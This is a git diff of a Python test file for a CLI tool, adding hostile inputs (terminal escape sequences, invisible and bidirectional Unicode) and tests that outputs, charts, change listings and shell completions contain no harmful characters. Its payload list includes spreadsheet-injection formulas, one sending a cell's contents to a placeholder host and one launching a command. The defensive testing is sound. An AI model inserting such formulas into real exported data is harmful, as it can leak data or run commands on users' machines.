@@ -6,13 +6,15 @@ import csv
 import io
 import json
 import re
-import unicodedata
 from typing import TYPE_CHECKING, Any
 
 import pytest
 from rich.cells import cell_len
 
+from clustercli.app import COMMANDS as ALL_COMMANDS
 from tests.conftest import Clustercli, Result
+from tests.harmless import harmful
+from tests.repository import Repository
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
@@ -20,6 +22,10 @@ if TYPE_CHECKING:
 MARKUP = "[bold]x[/] :smile: Firma [a.s.]"
 ESCAPES = "a\x1b[31mred\x1b]0;title\x07 \x9b2J \x90q\x9c\x7f\x00"
 HIDDEN = "a\u202ecba\u202c \u2066x\u2069 a\u200bb\ufeffc\u00ad\u200f \U000e0041"
+UNSEEN = (
+    "a\u061c\u034f\u115f\u1160\u3164\uffa0\u17b4\u180b\u2800\ufe00\ufff9\U0001d173\U000e0020\U000e0100b "
+    "\x1b]8;;x:y\x07l\x1b]8;;\x07 \x1bP1$r\x1b\\\x85\u2028\u2029\u202d\u2068\u206ac"
+)
 FORMULAS = [
     '=HYPERLINK("https://x.example/?"&A1,"click")',
     "+cmd|' /C calc'!A0",
@@ -29,7 +35,7 @@ FORMULAS = [
 ]
 LINES = 'first "line"\nsecond, line\r\nthird\tline; | end'
 HARMLESS = ["-5", "1,5", "+420 200 123 456"]
-TEXTS = [MARKUP, ESCAPES, HIDDEN, *FORMULAS, LINES, *HARMLESS]
+TEXTS = [MARKUP, ESCAPES, HIDDEN, UNSEEN, *FORMULAS, LINES, *HARMLESS]
 IDS = [f"evil-{i}" for i in range(len(TEXTS))]
 
 
@@ -39,7 +45,7 @@ def quoted(text: str) -> str:
 
 
 def firm(id_: str, text: str, country: str) -> str:
-    said = quoted(text)
+    said, other = quoted(text), quoted(f"other {text}")
     offer, need = ("cloth", "sewing") if country == "RS" else ("sewing", "cloth")
     return f"""\
 - id: {id_}
@@ -58,7 +64,7 @@ def firm(id_: str, text: str, country: str) -> str:
   contacts: [{{role: {said}, phone: "+420 200 123 456", purpose: {said}}}]
   member_of: [evil-cluster]
   sources: [evil-source]
-  disputed: {{city: [{{value: {said}, source: evil-source, note: {said}}}]}}
+  disputed: {{city: [{{value: {said}, source: evil-source, note: {said}}}, {{value: {other}, source: evil-source}}]}}
   notes: [{said}, {said}]
 """
 
@@ -127,17 +133,6 @@ def broken(tmp_path_factory: pytest.TempPathFactory) -> Clustercli:
     return program
 
 
-BIDI_AND_INVISIBLE = "\u00ad\u061c\u180e\u200b\u200c\u200d\u200e\u200f\u2060\ufeff" + "".join(
-    map(chr, [*range(0x202A, 0x202F), *range(0x2066, 0x206A), *range(0xE0000, 0xE0080)])
-)
-
-
-def harmful(text: str, allowed: str = "\n") -> set[str]:
-    """The characters of an output that could act on a terminal or deceive a reader."""
-    bad = {c for c in text if unicodedata.category(c) in ("Cc", "Zl", "Zp", "Cs") or c in BIDI_AND_INVISIBLE}
-    return bad - set(allowed)
-
-
 def spelt_out(text: str) -> str:
     """Text as CSV has it: controls written as escapes, line breaks and tabs kept."""
     return "".join(
@@ -170,8 +165,21 @@ COMMANDS = [
     ["map"],
     ["map", "--by", "town"],
     ["sectors"],
+    ["sectors", "cloth"],
     ["export", "smes"],
     ["export", "projects"],
+    ["why", "evil-0", "evil-1"],
+    ["gaps", "--sector", "cloth", "--country", "RS"],
+    ["gaps", "--sector", "cloth", "--country", "RS", "--records"],
+    ["conflicts"],
+    ["sources"],
+    ["sources", "evil-source"],
+    ["coverage"],
+    ["duplicates"],
+    ["suggest", "evil-cluster"],
+    ["show", "evil-3", "--lang", "cs"],
+    ["list", "--age", "--lang", "bg"],
+    ["stats", "--deep"],
 ]
 FORMATS = ["", "table", "csv", "tsv", "json", "jsonl", "markdown"]
 
@@ -444,3 +452,77 @@ def test_braces_in_a_text_are_braces(clustercli: Clustercli) -> None:
     (row,) = rows(clustercli("match", "a", "--format", "json"), "json")
     assert row["lines"][0]["text"] == "they offer wool, you need {theirs} %s {0}"
     assert (row["organisation_name"], row["partner_name"]) == ("{0}", "%(x)s")
+
+
+def test_every_command_that_shows_records_is_tried() -> None:
+    about_files = {
+        "check",
+        "changes",
+        "load",
+        "init",
+        "new",
+        "schema",
+        "due",
+    }  # have tests of their own, here and below
+    assert {command[0] for command in COMMANDS} | about_files == set(ALL_COMMANDS)
+
+
+@pytest.mark.parametrize("width", [0, 80])
+@pytest.mark.parametrize("arguments", [["timeline"], ["timeline", *(f"{id_}-project" for id_ in IDS)]], ids=len)
+def test_no_control_character_reaches_a_chart_for_a_wiki(evil: Clustercli, arguments: list[str], width: int) -> None:
+    result = evil(*arguments, "--format", "mermaid", width=width)
+    assert result.code == 0, result.err
+    assert len(result.out.splitlines()) > 2 * len(TEXTS)
+    assert harmful(result.out + result.err) == set()
+
+
+@pytest.mark.parametrize("width", [0, 80])
+@pytest.mark.parametrize("format_", FORMATS)
+def test_what_expires_is_told_in_harmless_words(broken: Clustercli, format_: str, width: int) -> None:
+    label = f"labels: [{{scheme: {ALL}, level: {ALL}, valid_until: 2020}}], checked: 2001-01-01"
+    broken.write({"data/clusters/old.yaml": f"- {{id: old, name: {ALL}, country: RS, sectors: [cloth], {label}}}\n"})
+    result = broken("due", "--all", *(["--format", format_] if format_ else []), width=width)
+    assert "old" in result.out
+    assert harmful(result.out + result.err, "\r\n\t") == set()
+
+
+@pytest.fixture(scope="module")
+def historic(tmp_path_factory: pytest.TempPathFactory) -> Clustercli:
+    """The hostile catalogue with a past in git: hostile texts, file names, a branch and the words of a commit."""
+    folder = tmp_path_factory.mktemp("historic")
+    program = Clustercli(folder / "home", folder)
+    program.write({f"data/{name}": text for name, text in FILES.items()})
+    program.write(
+        {"data/smes/\x1b[31m\u202e.yaml": "- {id: 5\n", "data/smes/\u202ebad.yaml": f"- {{id: x, name: {ALL}\n"}
+    )
+    Repository.made(folder).commit()
+    for name in ("smes", "projects"):
+        text = FILES[f"{name}/all.yaml"].replace(quoted("a.s.")[1:-1], quoted("s.r.o.")[1:-1])
+        program.write({f"data/{name}/all.yaml": text[: text.rindex("- id:")]})
+    return program
+
+
+@pytest.mark.parametrize("width", [0, 80])
+@pytest.mark.parametrize("format_", FORMATS)
+def test_changes_are_told_in_harmless_words(historic: Clustercli, format_: str, width: int) -> None:
+    result = historic("changes", "--since", "HEAD", *(["--format", format_] if format_ else []), width=width)
+    assert result.code == 0, result.err
+    assert "s.r.o." in result.out
+    assert harmful(result.out, "\r\n\t") == set()
+    assert harmful(result.err) == set()
+
+
+def test_changes_in_json_hold_the_hostile_text_itself(historic: Clustercli) -> None:
+    told = rows(historic("changes", "--since", "HEAD", "--format", "json"), "json")
+    assert MARKUP in [change["before"] for change in told]
+    assert MARKUP.replace("a.s.", "s.r.o.") in [change["after"] for change in told]
+
+
+@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
+def test_a_completion_prints_nothing_harmful(evil: Clustercli, shell: str) -> None:
+    for words in ("clustercli list \x1b[31m", "clustercli show evil", "clustercli \u202e", "clustercli list --format "):
+        asked = {"_CLUSTERCLI_COMPLETE": f"complete_{shell}", "COMP_WORDS": words, "COMP_CWORD": "2",
+                 "_TYPER_COMPLETE_ARGS": words, "_TYPER_COMPLETE_FISH_ACTION": "get-args"}  # fmt: skip
+        result = evil.process(variables=asked)
+        assert harmful(result.out + result.err, "\n\t") == set()
+        assert "Traceback" not in result.err
